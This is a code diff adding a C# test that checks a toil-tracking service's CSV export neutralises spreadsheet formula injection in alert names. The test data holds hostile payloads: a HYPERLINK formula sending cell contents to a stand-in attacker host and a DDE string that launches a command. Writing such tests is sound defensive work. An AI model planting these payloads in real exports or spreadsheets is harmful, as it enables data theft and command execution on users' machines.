@@ -259,6 +259,28 @@ public sealed class alerts_arriving_by_webhook(alerts_arriving_by_webhook.HostFi
         Assert.Equal(413, right.Status);
     }
 
+    [Fact]
+    public async Task alert_names_that_look_like_formulas_are_plain_text_in_the_csv_export()
+    {
+        var names = new[] { "=HYPERLINK(\"http://attacker.invalid/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)" };
+        foreach (var name in names)
+        {
+            Assert.Equal("Unautomated", (await Http.SettledAlertAsync((await Http.PostGenericAsync(new { name })).Single())).Outcome());
+        }
+
+        using var response = await Http.GetAsync(new Uri("/api/toil/unautomated?format=csv", UriKind.Relative));
+        var csv = await response.Content.ReadAsStringAsync();
+
+        Assert.Contains("\"'=HYPERLINK(\"\"http://attacker.invalid/?\"\"&A1,\"\"open\"\")\"", csv, StringComparison.Ordinal);
+        Assert.Contains(",'+1+cmd|' /C calc'!A0,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'-2+3,", csv, StringComparison.Ordinal);
+        Assert.Contains(",'@SUM(A1:A9),", csv, StringComparison.Ordinal);
+        foreach (var cell in csv.Split('\n').SelectMany(line => line.Split(',')))
+        {
+            Assert.False(cell.TrimStart('"').Length > 0 && cell.TrimStart('"')[0] is '=' or '+' or '@', $"a cell starts a formula: {cell}");
+        }
+    }
+
     private static Dictionary<string, string> PagerDutyRotation => new()
     {
         ["X-PagerDuty-Signature"] = "v1=125b4142693b9b96f6a5790faff6b5ad6728d691afb3f55beef7e5423f4c8d89,v1=386b3c86a0bd514ef7fdb42e256d3432a5ad365b4b93f5b09e67dfd15a48c4c5",
